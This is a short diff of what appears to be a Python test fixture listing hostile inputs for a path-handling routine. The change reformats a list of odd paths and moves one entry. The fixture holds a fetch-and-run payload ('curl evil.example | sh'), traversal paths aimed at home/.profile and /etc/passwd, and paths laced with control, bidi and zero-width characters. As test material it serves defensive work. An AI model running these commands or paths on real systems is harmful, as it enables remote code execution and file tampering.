@@ -29,28 +29,10 @@ MANY = 99  # pieces that no job reaches: it then does not sleep
 PAYLOAD = b"curl evil.example | sh\n"
 DEEP = [f"/{'../' * depth}{file}" for depth in range(1, 8) for file in ("home/.profile", "other/stressed/1.bin")]
 BESIDE = [f".x/{'../' * depth}home/.profile" for depth in range(1, 8)]
-ODD = [
-    "",
-    ".",
-    "..",
-    "/",
-    "/.",
-    "/..",
-    "//",
-    "x",
-    "./x",
-    "../x",
-    "/x/",
-    ".x/",
-    ".x/y",
-    "/x//y",
-    "/./x",
-    "/x/.",
-    "/x/./y",
-]
+ODD = ["", ".", "..", "/", "/.", "/..", "//", "x", "./x", "../x", "/x/", ".x/", ".x/y", "/x//y", "/./x", "/x/."]
 ODD += ["//etc/passwd", "~/.profile", "\\..\\..\\home\\.profile", ".x\\y", "/x\0y", ".x\ny", ".\x1b[2Jx", "/x\x7fy"]
 ODD += [".\u202egnp", "/\u2066x", ".x\u2028y", "/\ufeffx", ".\u200bx", f".{'x' * 300}", f"/{'x/' * 100}x"]
-ODD += [".manifest.json", ".b.manifest.json", ".run.json", "/x.manifest.json"]
+ODD += ["/x/./y", ".manifest.json", ".b.manifest.json", ".run.json", "/x.manifest.json"]
 
 
 def drawn(count: int) -> list[str]:
